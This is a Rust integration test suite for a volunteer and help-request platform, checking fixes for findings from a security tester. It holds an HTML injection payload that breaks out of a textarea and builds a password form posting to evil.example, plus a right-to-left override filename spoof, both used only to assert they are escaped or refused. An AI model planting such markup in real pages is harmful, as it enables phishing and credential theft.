//! The trust suite: what a security tester tried against the platform, through the real router
//! on both engines. Each test here failed before its fix (issue 22) and must keep passing.

use crate::testing::browser::{count, location, sign_up, token_from_mail, Browser, PASSWORD};
use crate::organizations::campaigns::tests::campaign_form;
use crate::organizations::tests::{fields, registration, signed_in, valid_bin, with};
use crate::server::db::{Db, Sql};
use crate::wiring::router;
use crate::testing::{app_state, on_each_backend};
use axum::http::{header, StatusCode};
use axum::Router;

mod every_form;

/// Markup that would end a `<textarea>` and take over the page if it were written raw.
const BREAKOUT: &str = "</textarea><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><form action=\"https://evil.example/\"><input name=password></form>";
/// How it must come back: as text inside the field.
const BREAKOUT_AS_TEXT: &str = "&lt;/textarea&gt;&lt;meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"&gt;&lt;form";

fn assert_written_as_text(body: &str, where_: &str) {
    assert!(!body.contains("</textarea><meta"), "{where_}: the payload closed the textarea:\n{body}");
    assert!(!body.contains("<form action=\"https://evil.example/\""), "{where_}: the payload made a form");
    assert!(body.contains(BREAKOUT_AS_TEXT), "{where_}: the payload is shown as text");
}

/// An organisation registered by `owner`, verified; its slug and id.
async fn verified_organization(app: &Router, db: &Db, owner: &mut Browser, description: &str) -> (String, i64) {
    let form = with(&registration(&valid_bin("19014000012")), "description_en", description);
    let answer = owner.post(app, "/en/organizations/new", &fields(&form)).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    let slug = location(&answer).trim_start_matches("/en/organizations/").trim_end_matches("?registered=1").to_string();
    db.execute(Sql::new("UPDATE organizations SET verified = TRUE")).await.unwrap();
    let id = count(db, &format!("SELECT id AS n FROM organizations WHERE slug = '{slug}'")).await;
    (slug, id)
}

#[tokio::test]
async fn text_in_every_textarea_comes_back_as_text_never_as_markup() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let mut owner = signed_in(&app, &db, "owner@zhasyl.kz", false).await;
        let (slug, _) = verified_organization(&app, &db, &mut owner, BREAKOUT).await;

        // The organisation's editor, with the stored description.
        let editor = owner.get(&app, &format!("/en/organizations/{slug}/edit")).await;
        assert_eq!(editor.status, StatusCode::OK);
        assert_written_as_text(&editor.body, "organisation editor");

        // A refused post of the editor renders the form again with what was sent.
        let refused = with(&with(&registration(&valid_bin("19014000012")), "description_ru", BREAKOUT), "bin", "123");
        let answer = owner.post(&app, &format!("/en/organizations/{slug}/edit"), &fields(&refused)).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
        assert_written_as_text(&answer.body, "organisation editor, refused");

        // A campaign's editor, stored and refused.
        let campaign = with(&with(&campaign_form(), "description_kk", BREAKOUT), "question_kk", BREAKOUT);
        let answer = owner.post(&app, &format!("/en/organizations/{slug}/campaigns/new"), &fields(&campaign)).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        let edit = location(&answer).trim_end_matches("?saved=1").to_string();
        assert_written_as_text(&owner.get(&app, &edit).await.body, "campaign editor");
        let answer = owner.post(&app, &edit, &fields(&with(&campaign, "capacity", "none"))).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_written_as_text(&answer.body, "campaign editor, refused");

        // The help form (anonymous) and the signup's skills, refused and rendered again.
        let mut visitor = Browser::new("10.22.1.1");
        let help = [("description", BREAKOUT), ("kind", "food")];
        let answer = visitor.post(&app, "/ru/help/new", &help).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_written_as_text(&answer.body, "help form, refused");
        let mut volunteer = Browser::new("10.22.1.2");
        sign_up(&app, &db, &mut volunteer, "skills@mail.kz").await;
        volunteer.post(&app, "/kk/signup/about", &[("full_name", "Дана"), ("phone", "+7 701 000 11 22"), ("birth_date", "2000-01-01"), ("region", "KZ-75"), ("locality", "Алматы"), ("languages", "kk")]).await;
        let answer = volunteer.post(&app, "/kk/signup/interests", &[("skills", BREAKOUT)]).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_written_as_text(&answer.body, "signup interests, refused");
    })
    .await;
}

/// A volunteer who finished the "about you" and "interests" steps with `birth_date`.
async fn at_consent_step(app: &Router, db: &Db, email: &str, address: &str, birth_date: &str) -> Browser {
    let mut browser = Browser::new(address);
    sign_up(app, db, &mut browser, email).await;
    let answer = browser.post(app, "/en/signup/about", &about(birth_date)).await;
    assert_eq!(location(&answer), "/en/signup/interests", "{}", answer.body);
    browser.post(app, "/en/signup/interests", &[("directions", "bilim"), ("availability", "weekends")]).await;
    browser
}

fn about(birth_date: &str) -> Vec<(&'static str, &str)> {
    vec![("full_name", "Айша Серікқызы"), ("phone", "+7 701 222 33 44"), ("birth_date", birth_date), ("region", "KZ-75"), ("locality", "Алматы"), ("languages", "kk")]
}

fn years_ago(years: i32) -> String {
    use chrono::Datelike;
    let today = chrono::Utc::now().date_naive();
    format!("{}-01-15", today.year() - years)
}

#[tokio::test]
async fn a_minor_cannot_finish_signup_without_a_guardian_by_posting_two_steps_at_once() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let (adult, minor) = (years_ago(30), years_ago(14));
        for round in 0..6 {
            let email = format!("race{round}@example.kz");
            let browser = at_consent_step(&app, &db, &email, &format!("10.22.2.{round}"), &adult).await;
            // The consent step decided for an adult while the birth date turns into a minor's.
            let about = about(&minor);
            let (mut first, mut second) = (browser.clone(), browser);
            let (a, b) = if round % 2 == 0 {
                tokio::join!(first.post(&app, "/en/signup/consent", &[("agree", "yes")]), second.post(&app, "/en/signup/about", &about))
            } else {
                let (b, a) = tokio::join!(second.post(&app, "/en/signup/about", &about), first.post(&app, "/en/signup/consent", &[("agree", "yes")]));
                (a, b)
            };
            // Either may be refused (the consent step, when it already sees the minor's date).
            assert!(!a.status.is_server_error() && !b.status.is_server_error(), "{} {}", a.status, b.status);
            let skipped = format!(
                "SELECT COUNT(*) AS n FROM users WHERE email = '{email}' AND signup_step = 'done' AND birth_date = '{minor}' AND guardian_contact IS NULL"
            );
            assert_eq!(count(&db, &skipped).await, 0, "round {round}: a minor finished without naming a guardian");
        }

        // Whatever the steps say, applying refuses a minor without a guardian's consent.
        let campaign = crate::volunteers::applications::store_tests::campaign_with_places(&db, 5).await;
        let mut young = at_consent_step(&app, &db, "young@example.kz", "10.22.2.100", &adult).await;
        young.post(&app, "/en/signup/consent", &[("agree", "yes")]).await;
        db.execute(Sql::new(&format!("UPDATE users SET birth_date = '{minor}' WHERE email = 'young@example.kz'"))).await.unwrap();
        let answer = young.post(&app, &format!("/en/campaigns/{campaign}/apply"), &[]).await;
        assert_eq!(location(&answer), format!("/en/campaigns/{campaign}"), "{}", answer.body);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM applications").await, 0);
        let panel = young.get(&app, &format!("/en/campaigns/{campaign}")).await;
        assert!(panel.body.contains("once your parent or guardian confirms"), "the panel says why");
    })
    .await;
}

/// The link of the last mail to `to`, whatever its path.
async fn guardian_token(db: &Db, to: &str) -> String {
    token_from_mail(db, to).await
}

#[tokio::test]
async fn a_guardian_confirms_by_the_mailed_link_and_can_withdraw_later() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let minor = years_ago(14);
        let mut young = at_consent_step(&app, &db, "teen@example.kz", "10.22.3.1", &minor).await;
        let consent = |contact: &'static str| vec![("agree", "yes"), ("guardian_name", "Серік Әлиұлы"), ("guardian_contact", contact)];

        // The guardian must be reachable by mail, and not be the minor.
        let answer = young.post(&app, "/kk/signup/consent", &consent("8 701 999 88 77")).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(answer.body.contains("Ата-анаңыздың немесе заңды өкіліңіздің поштасын жазыңыз"), "{}", answer.body);
        let answer = young.post(&app, "/ru/signup/consent", &consent("Teen@Example.kz")).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(answer.body.contains("Это ваш собственный адрес"), "{}", answer.body);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM guardian_requests").await, 0);

        // Named: the signup is done, a link goes to the guardian, and the minor cannot apply yet.
        let answer = young.post(&app, "/en/signup/consent", &consent("parent@example.kz")).await;
        assert_eq!(location(&answer), "/en/signup/done", "{}", answer.body);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM consents WHERE kind = 'guardian'").await, 0, "nothing the minor ticks counts");
        let campaign = crate::volunteers::applications::store_tests::campaign_with_places(&db, 1).await;
        let apply = format!("/en/campaigns/{campaign}/apply");
        young.post(&app, &apply, &[]).await;
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM applications").await, 0, "awaiting the guardian");
        let me = young.get(&app, "/en/me").await;
        assert!(me.body.contains("We sent a link to parent@example.kz"), "{}", me.body);

        // The guardian's page: who, what, the consent text; kept by no cache.
        let token = guardian_token(&db, "parent@example.kz").await;
        let mut guardian = Browser::new("10.22.3.2");
        let page = guardian.get(&app, &format!("/en/guardian?token={token}")).await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.body.contains("Айша Серікқызы") && page.body.contains("14 years") && page.body.contains("Consent to the processing of personal data"));
        assert!(page.headers[header::CACHE_CONTROL].to_str().unwrap().contains("no-store"));
        let wrong = "ab".repeat(32);
        assert_eq!(guardian.post(&app, "/en/guardian/confirm", &[("token", &wrong)]).await.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(guardian.get(&app, &format!("/en/guardian?token={wrong}")).await.status, StatusCode::NOT_FOUND);

        // Confirmed once (a second time is refused): the minor applies.
        let answer = guardian.post(&app, "/en/guardian/confirm", &[("token", &token)]).await;
        assert_eq!(location(&answer), format!("/en/guardian?token={token}&done=confirmed"));
        assert_eq!(guardian.post(&app, "/en/guardian/confirm", &[("token", &token)]).await.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM consents WHERE kind = 'guardian' AND withdrawn_at IS NULL").await, 1);
        let answer = young.post(&app, &apply, &[]).await;
        assert_eq!(location(&answer), format!("/en/campaigns/{campaign}?applied=1#apply"));

        // Withdrawn: the application is withdrawn, its place freed, and applying refused again.
        let answer = guardian.post(&app, "/kk/guardian/withdraw", &[("token", &token)]).await;
        assert_eq!(location(&answer), format!("/kk/guardian?token={token}&done=withdrawn"));
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM applications WHERE status = 'cancelled'").await, 1);
        assert_eq!(count(&db, &format!("SELECT CAST(spots_taken AS BIGINT) AS n FROM campaigns WHERE id = {campaign}")).await, 0);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM consents WHERE kind = 'guardian' AND withdrawn_at IS NULL").await, 0);
        young.post(&app, &apply, &[]).await;
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM applications WHERE status <> 'cancelled'").await, 0);
        let page = guardian.get(&app, &format!("/kk/guardian?token={token}&done=withdrawn")).await;
        assert!(page.body.contains("Келісім қайтарылды"), "{}", page.body);
    })
    .await;
}

#[tokio::test]
async fn invisible_and_direction_changing_characters_are_refused_with_a_localized_message() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let mut browser = Browser::new("10.22.4.1");
        sign_up(&app, &db, &mut browser, "bidi@example.kz").await;
        let mut form = about("2000-01-01");
        form[0] = ("full_name", "Bob \u{202E}gnp.exe");
        let answer = browser.post(&app, "/kk/signup/about", &form).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(answer.body.contains("Көрінбейтін немесе мәтін бағытын өзгертетін таңбаларды өшіріңіз"), "{}", answer.body);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM users WHERE full_name <> ''").await, 0, "nothing stored");
    })
    .await;
}

#[tokio::test]
async fn pages_with_a_secret_in_their_address_are_kept_by_no_cache() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let mut visitor = Browser::new("10.22.5.1");
        let form = crate::help::tests::request_form(&db).await;
        let answer = visitor.post(&app, "/en/help/new", &fields(&form)).await;
        let follow = location(&answer).split('?').next().unwrap().to_string();
        let token = follow.rsplit('/').next().unwrap().to_string();
        let token_like = "0".repeat(64);
        for path in [
            follow.clone(),
            format!("/api/fn/help-follow?token={token}"),
            format!("/ru/password/reset?token={token_like}"),
            format!("/ru/verify?token={token_like}"),
            format!("/kk/invitations/accept?token={token_like}"),
            format!("/api/fn/invitation?token={token_like}"),
            format!("/en/guardian?token={token_like}"),
        ] {
            let answer = Browser::new("10.22.5.2").get(&app, &path).await;
            let cache = answer.headers.get(header::CACHE_CONTROL).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
            assert!(cache.contains("no-store"), "{path}: Cache-Control {cache:?}");
        }
    })
    .await;
}

#[tokio::test]
async fn malformed_server_function_arguments_are_a_bad_request_not_a_server_error() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        for path in ["/api/fn/campaigns?query=%7B", "/api/fn/help-follow", "/api/fn/campaign?id=not-a-number"] {
            let answer = Browser::new("10.22.6.1").get(&app, path).await;
            assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{path}: {}", answer.body);
            assert!(!answer.body.contains("rror deserializing") && !answer.body.contains("serde"), "{path}: no internals: {}", answer.body);
        }
    })
    .await;
}

#[tokio::test]
async fn a_help_form_is_filed_once_and_its_stamp_cannot_be_replayed() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let form = crate::help::tests::request_form(&db).await;
        let answer = Browser::new("10.22.7.1").post(&app, "/en/help/new", &fields(&form)).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        let replayed = Browser::new("10.22.7.2").post(&app, "/en/help/new", &fields(&form)).await;
        assert_eq!(replayed.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(replayed.body.contains("This form has already been sent"), "{}", replayed.body);
        let stamp = form.iter().find(|(n, _)| *n == "stamp").map(|(_, v)| v.clone()).unwrap();
        let forged = format!("{}0", &stamp[..stamp.len() - 1]);
        let answer = Browser::new("10.22.7.3").post(&app, "/en/help/new", &fields(&with(&form, "stamp", &forged))).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM help_requests").await, 1);
    })
    .await;
}

#[tokio::test]
async fn logos_are_decoded_one_at_a_time_within_a_memory_ceiling() {
    use crate::organizations::logo::{reencode_in_turn, LogoRefused};
    let largest = crate::organizations::tests::png(4096, 4096);
    assert!(largest.len() < crate::organizations::logo::LOGO_MAX_BYTES);
    assert_eq!(reencode_in_turn(crate::organizations::tests::png(4097, 16)).await, Err(LogoRefused::TooManyPixels));
    let resident = || -> u64 {
        let statm = std::fs::read_to_string("/proc/self/statm").unwrap_or_default();
        statm.split_whitespace().nth(1).and_then(|pages| pages.parse::<u64>().ok()).unwrap_or(0) * 4096
    };
    let before = resident();
    let peak = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(before));
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sampler = {
        let (peak, done) = (peak.clone(), done.clone());
        std::thread::spawn(move || {
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                peak.fetch_max(resident(), std::sync::atomic::Ordering::Relaxed);
                std::thread::sleep(std::time::Duration::from_millis(2));
            }
        })
    };
    let uploads: Vec<_> = (0..20).map(|_| tokio::spawn(reencode_in_turn(largest.clone()))).collect();
    for upload in uploads {
        assert!(upload.await.unwrap().is_ok());
    }
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    sampler.join().unwrap();
    let grown = peak.load(std::sync::atomic::Ordering::Relaxed).saturating_sub(before) / 1024 / 1024;
    println!("20 concurrent uploads of a 4096 × 4096 logo: resident memory grew by {grown} MB at most");
    assert!(grown < 150, "resident memory grew by {grown} MB");
}

/// Every column of every table of the platform, as `(table, column)`.
async fn columns(db: &Db) -> Vec<(String, String)> {
    typed_columns(db).await.into_iter().map(|(table, column, _)| (table, column)).collect()
}

/// Every column of every table, with whether it holds text.
async fn typed_columns(db: &Db) -> Vec<(String, String, bool)> {
    #[derive(sqlx::FromRow)]
    struct Column {
        table_name: String,
        column_name: String,
        data_type: String,
    }
    let columns: Vec<Column> = match db.backend() {
        crate::server::db::Backend::Sqlite => db
            .fetch_all(Sql::new(
                "SELECT m.name AS table_name, p.name AS column_name, p.type AS data_type FROM sqlite_master m JOIN pragma_table_info(m.name) p \
                 WHERE m.type = 'table' AND m.name NOT LIKE 'sqlite_%' AND m.name NOT LIKE '_sqlx%' ORDER BY 1, 2",
            ))
            .await
            .unwrap(),
        crate::server::db::Backend::Postgres => db
            .fetch_all(Sql::new(
                "SELECT table_name::text AS table_name, column_name::text AS column_name, data_type::text AS data_type FROM information_schema.columns \
                 WHERE table_schema = current_schema() AND table_name NOT LIKE '_sqlx%' ORDER BY 1, 2",
            ))
            .await
            .unwrap(),
    };
    columns.into_iter().map(|c| {
        let is_text = ["TEXT", "CHAR"].iter().any(|t| c.data_type.to_uppercase().contains(t));
        (c.table_name, c.column_name, is_text)
    }).collect()
}

/// Every table and text column where `needle` is found (a search of the whole database).
async fn places_holding(db: &Db, needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (table, column) in columns(db).await {
        let mut sql = Sql::new(&format!("SELECT COUNT(*) AS n FROM \"{table}\" WHERE CAST(\"{column}\" AS TEXT) LIKE "));
        sql.bind(format!("%{needle}%"));
        if db.fetch_count(sql).await.unwrap() > 0 {
            found.push(format!("{table}.{column}"));
        }
    }
    found
}

#[tokio::test]
async fn deleting_an_account_leaves_no_personal_datum_behind() {
    on_each_backend(|db| async move {
        let app = router::build(app_state(db.clone()));
        let (email, phone, name, neighbour) = ("leaving.helper@mail.kz", "+77015556677", "Ерболат Жанұзақов", "+77021112233");
        let mut person = signed_in(&app, &db, email, false).await;
        db.execute(Sql::new(&format!("UPDATE users SET phone = '{phone}', full_name = '{name}' WHERE email = '{email}'"))).await.unwrap();

        // An organisation they registered alone, with their own contacts, and a campaign.
        let form = with(&with(&registration(&valid_bin("19014000012")), "email", email), "phone", "8 701 555 66 77");
        let answer = person.post(&app, "/en/organizations/new", &fields(&form)).await;
        let slug = location(&answer).trim_start_matches("/en/organizations/").trim_end_matches("?registered=1").to_string();
        db.execute(Sql::new("UPDATE organizations SET verified = TRUE")).await.unwrap();
        let answer = person.post(&app, &format!("/en/organizations/{slug}/campaigns/new"), &fields(&with(&campaign_form(), "action", "publish"))).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        // An invitation to their address from another organisation, never accepted.
        let mut other = signed_in(&app, &db, "other.owner@qamqor.kz", false).await;
        let form = with(&with(&registration(&valid_bin("20034000015")), "name_en", "Qamqor"), "name_kk", "Қамқор");
        let answer = other.post(&app, "/en/organizations/new", &fields(&form)).await;
        let other_slug = location(&answer).trim_start_matches("/en/organizations/").trim_end_matches("?registered=1").to_string();
        other.post(&app, &format!("/en/organizations/{other_slug}/members/invite"), &[("invite_email", email), ("form", "invite")]).await;
        assert_eq!(count(&db, &format!("SELECT COUNT(*) AS n FROM organization_invitations WHERE email = '{email}'")).await, 1);

        // A help request of their own, and one they took and wrote a note on.
        let mut mine = crate::help::tests::request_form(&db).await;
        mine = with(&with(&with(&mine, "description", "Insulin for my diabetic son, every week."), "contact_phone", phone), "contact_name", name);
        mine = with(&mine, "contact_email", email);
        let answer = person.post(&app, "/en/help/new", &fields(&mine)).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        let theirs = crate::help::tests::request_form(&db).await;
        Browser::new("10.22.8.1").post(&app, "/en/help/new", &fields(&theirs)).await;
        let taken = count(&db, "SELECT MAX(id) AS n FROM help_requests").await;
        let mut moderator = signed_in(&app, &db, "moderator@birgemiz.kz", true).await;
        moderator.post(&app, &format!("/en/help/requests/{taken}/verify"), &[("step", "verify")]).await;
        let answer = person.post(&app, &format!("/en/help/requests/{taken}/take"), &[("step", "take")]).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        let note = format!("Апасының көршісіне табыстаймын, {neighbour}");
        person.post(&app, &format!("/en/help/requests/{taken}/start"), &[("step", "start"), ("note", &note)]).await;
        assert_eq!(count(&db, &format!("SELECT COUNT(*) AS n FROM help_requests WHERE status = 'in_progress' AND id = {taken}")).await, 1);
        for needle in [email, phone, name, neighbour, "Insulin"] {
            assert!(!places_holding(&db, needle).await.is_empty(), "{needle} is stored before");
        }

        // Deleted: not one of these is anywhere in the database.
        let answer = person.post(&app, "/en/me/delete", &[("form", "delete"), ("delete_password", PASSWORD), ("confirm", "yes")]).await;
        assert_eq!(location(&answer), "/en?account_deleted=1", "{}", answer.body);
        for needle in [email, phone, "701 555 66 77", name, neighbour, "Insulin"] {
            assert_eq!(places_holding(&db, needle).await, Vec::<String>::new(), "{needle} is left");
        }
        // The organisation is hidden, its open campaign cancelled; the taken request is back in
        // the queue; the ledger still verifies.
        assert_eq!(count(&db, &format!("SELECT COUNT(*) AS n FROM organizations WHERE hidden_at IS NOT NULL AND slug = '{slug}'")).await, 1);
        assert_eq!(Browser::new("10.22.8.2").get(&app, &format!("/en/organizations/{slug}")).await.status, StatusCode::NOT_FOUND);
        assert_eq!(count(&db, "SELECT COUNT(*) AS n FROM campaigns WHERE status = 'published'").await, 0);
        assert_eq!(count(&db, &format!("SELECT COUNT(*) AS n FROM help_requests WHERE status = 'verified' AND taken_by_user_id IS NULL AND id = {taken}")).await, 1);
        let returned = format!("SELECT COUNT(*) AS n FROM help_ledger WHERE actor_kind = 'system' AND to_status = 'verified' AND request_id = {taken}");
        assert_eq!(count(&db, &returned).await, 1);
        assert_eq!(crate::help::ledger::verify(&db).await.unwrap().problem, None);
    })
    .await;
}
